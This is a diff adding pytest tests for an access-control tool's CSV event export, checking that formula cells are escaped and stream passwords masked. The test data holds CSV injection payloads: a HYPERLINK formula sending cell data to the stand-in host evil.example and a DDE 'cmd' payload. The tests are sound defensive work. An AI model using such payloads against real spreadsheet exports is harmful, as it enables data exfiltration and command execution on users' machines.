@@ -12,7 +12,7 @@ import pytest
 
 from tests.admin.conftest import FakeClock, decide
 from turnstile.admin.enrolment import Enroller
-from turnstile.admin.eventexport import EventFilter, export_csv, parse_time, select
+from turnstile.admin.eventexport import EventFilter, export_csv, parse_time, safe_cell, select
 from turnstile.admin.people import PeopleAdmin
 from turnstile.cli import main
 from turnstile.config import Config, EventsConfig
@@ -101,3 +101,31 @@ def test_events_command(logged: EventLog, db_path: Path, tmp_path: Path, models_
     assert main(["events", *base, "--since", "soon"]) == 2
     assert "cannot read 'soon'" in capsys.readouterr().err
     assert main(["events", *base, "--person", "nobody"]) == 2
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-0.1234", "-0.1234"),  # a number stays a number
+    ("Ada Lovelace", "Ada Lovelace"),
+    (None, ""),
+])
+def test_cells_a_spreadsheet_would_run_are_escaped(value: str | None, cell: str) -> None:
+    assert safe_cell(value) == cell
+
+
+def test_export_escapes_formulas_and_hides_stream_passwords(
+        logged: EventLog, file_conn: sqlite3.Connection, tmp_path: Path) -> None:
+    file_conn.execute("UPDATE events SET name = '=HYPERLINK(\"http://evil.example\",\"x\")',"
+                      " detail = '@SUM(1)', source = 'rtsp://admin:hunter2@10.0.0.5/stream'"
+                      " WHERE outcome = 'granted'")
+    target = tmp_path / "events.csv"
+    export_csv(logged, EventFilter(), target)
+    text = target.read_text()
+    rows = list(csv.DictReader(text.splitlines()))
+    assert rows[0]["name"].startswith("'=HYPERLINK") and rows[0]["detail"] == "'@SUM(1)"
+    assert "hunter2" not in text and rows[0]["source"] == "rtsp://***@10.0.0.5/stream"
